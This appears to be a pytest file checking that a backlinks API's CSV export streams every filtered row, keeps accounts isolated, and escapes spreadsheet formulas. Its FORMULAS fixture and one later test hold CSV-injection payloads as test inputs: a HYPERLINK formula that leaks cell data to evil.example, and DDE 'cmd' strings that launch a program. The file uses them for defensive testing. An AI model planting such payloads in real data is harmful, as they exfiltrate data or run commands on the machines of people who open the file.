"""`GET /api/v1/backlinks` as CSV is a whole export: every row that matches the filters,
streamed, however many pages the JSON list would take — and its cells cannot run
formulas in a spreadsheet.

Hundreds of backlinks are written as the workers write them — Backlink aggregates saved
through the repository — and reach the read model through the projector."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import pytest

from domain import ids
from domain.backlink import Backlink, Evidence
from tests.core.client import Client
from tests.core.test_backlinks_api import CSV_HEADER, settled

pytestmark = pytest.mark.usefixtures("catalogue")

#: more than one JSON page (at most 200) and more than one export chunk
ON_SITE_A, ON_SITE_B = 190, 80


def backlink(account_id: uuid.UUID, site_id: uuid.UUID, n: int, **evidence: Any) -> Backlink:
    return Backlink(
        account_id=account_id,
        site_id=site_id,
        directory_id=n,
        job_id=uuid.uuid4(),
        evidence=Evidence(
            **{
                "source_url": f"https://dir{n}.example/listing",
                "has_link": True,
                "target_url": "https://shop.example.com/",
                "anchor_text": f"Shop {n}",
                "link_type": "dofollow",
                "http_status": 200,
                "indexable": True,
                **evidence,
            }
        ),
    )


@pytest.fixture
async def many(api, infra, agency: Client) -> dict[str, Any]:
    """Site A: 190 backlinks, every fifth nofollow. Site B: 80, the first 30 lost."""
    me = (await agency.get("/api/v1/users/me")).body
    account_id = ids.decode("usr", me["id"])
    a, b = await agency.add_site(), await agency.add_site()
    site_a, site_b = ids.decode("site", a["id"]), ids.decode("site", b["id"])
    on_a = [
        backlink(account_id, site_a, n, **({"link_type": "nofollow"} if n % 5 == 0 else {}))
        for n in range(ON_SITE_A)
    ]
    on_b = [backlink(account_id, site_b, 1000 + n) for n in range(ON_SITE_B)]
    for chunk in (on_a[:100], on_a[100:], on_b):
        await infra.repository.save(*chunk)
    for lost in on_b[:30]:
        for _ in range(2):  # lost after two misses in a row
            lost.record_check(Evidence(lost.evidence.source_url, has_link=False, http_status=200))
    await infra.repository.save(*on_b[:30])
    await settled(api, infra)
    return {"site_a": a["id"], "site_b": b["id"]}


async def every_json_id(client: Client, **filters: str) -> list[str]:
    """The ids of the JSON list, page after page."""
    found: list[str] = []
    cursor = None
    while True:
        params = {"limit": "200", **filters} | ({"cursor": cursor} if cursor else {})
        answer = await client.get("/api/v1/backlinks", **params)
        assert answer.status == 200, answer.body
        found += [row["id"] for row in answer.body["data"]]
        cursor = answer.body["pagination"]["next_cursor"]
        if cursor is None:
            return found


def table(text: str) -> list[dict[str, str]]:
    lines = text.split("\r\n")
    assert lines[0] == ",".join(CSV_HEADER) and lines[-1] == ""
    return list(csv.DictReader(io.StringIO(text)))


async def test_the_csv_export_holds_every_row_streamed(agency: Client, many) -> None:
    everything = await every_json_id(agency)
    assert len(everything) == ON_SITE_A + ON_SITE_B
    for answer in (
        await agency.get("/api/v1/backlinks", format="csv"),
        await agency.call("GET", "/api/v1/backlinks", headers={"Accept": "text/csv"}),
    ):
        assert answer.status == 200
        assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert answer.headers["Transfer-Encoding"] == "chunked"  # streamed, no length known
        assert "Content-Length" not in answer.headers and "X-Next-Cursor" not in answer.headers
        rows = table(answer.body)
        assert [r["id"] for r in rows] == everything  # newest first, none twice, none missed


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({"status": "lost"}, 30),
        ({"status": "live"}, ON_SITE_A + ON_SITE_B - 30),
        ({"link_type": "nofollow"}, ON_SITE_A // 5),
        ({"link_type": "dofollow"}, ON_SITE_A - ON_SITE_A // 5 + ON_SITE_B),
        ({"site": "site_a"}, ON_SITE_A),
        ({"site": "site_b", "status": "live"}, ON_SITE_B - 30),
    ],
)
async def test_the_csv_export_holds_every_row_that_matches_the_filters(
    agency: Client, many, filters: dict[str, str], expected: int
) -> None:
    params = dict(filters)
    if "site" in params:
        params["site_id"] = many[params.pop("site")]
    rows = table((await agency.get("/api/v1/backlinks", format="csv", **params)).body)
    assert len(rows) == expected
    assert [r["id"] for r in rows] == await every_json_id(agency, **params)
    for key in ("status", "link_type"):
        if key in params:
            assert {r[key] for r in rows} == {params[key]}


async def test_another_accounts_export_holds_none_of_these_rows(
    api, infra, agency: Client, many
) -> None:
    from tests.core.client import account

    other = await account(api, infra, "agency")
    answer = await other.get("/api/v1/backlinks", format="csv")
    assert answer.status == 200 and table(answer.body) == []


FORMULAS = {
    "anchor_text": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "target_url": "+cmd|' /C calc'!A0",
    "source_url": "-2+3",
}


async def test_formula_cells_get_a_leading_quote_in_the_export(api, infra, agency: Client):
    me = (await agency.get("/api/v1/users/me")).body
    site = await agency.add_site()
    links = [
        backlink(ids.decode("usr", me["id"]), ids.decode("site", site["id"]), 1, **FORMULAS),
        backlink(
            ids.decode("usr", me["id"]),
            ids.decode("site", site["id"]),
            2,
            anchor_text="@SUM(1+1)*cmd|' /C calc'!A0",
            target_url="\tTAB",
            source_url="\r=1+1",
            link_type="ugc",
        ),
    ]
    await infra.repository.save(*links)
    await settled(api, infra)
    json_rows = {r["directory_id"]: r for r in (await agency.get("/api/v1/backlinks")).body["data"]}
    assert json_rows[1]["anchor_text"] == FORMULAS["anchor_text"]  # JSON keeps the text
    rows = {
        r["directory_id"]: r
        for r in table((await agency.get("/api/v1/backlinks", format="csv")).body)
    }
    for field, text in FORMULAS.items():
        assert rows["1"][field] == "'" + text
    assert rows["2"]["anchor_text"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["2"]["target_url"] == "'\tTAB"
    assert rows["2"]["source_url"] == "'\r=1+1"
    assert rows["2"]["link_type"] == "ugc" and rows["2"]["http_status"] == "200"
